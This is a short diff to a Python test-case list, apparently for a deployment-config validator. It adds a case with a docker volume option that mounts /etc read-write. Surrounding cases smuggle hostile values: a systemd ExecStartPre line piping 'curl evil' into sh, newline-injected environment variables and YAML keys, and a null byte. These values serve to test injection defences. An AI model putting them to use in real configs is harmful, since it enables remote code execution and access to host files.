@@ -49,6 +49,7 @@ CASES = [
     ("staging-cn-south", _model(name="autoglm\nExecStartPre=/bin/sh -c 'curl evil|sh'"), "services[0].model.name"),
     ("staging-cn-south", _model(extra={"FOO": "x\nMODEL_PATH=/etc"}), "services[0].model.extra.FOO"),
     ("staging-cn-south", _model(extra={"model_path": "/etc"}), "services[0].model.extra"),
+    ("staging-cn-south", _model(path="/models:/etc:rw"), "services[0].model.path"),  # docker volume options
     ("staging-cn-south", _image_with_newline, "services[0].image"),
     ("staging-cn-south", _set("tags", "team", value="platform\nowner: x"), "tags.team"),
     ("staging-cn-south", _set("tags", "team", value="plat\x00form"), "tags.team"),
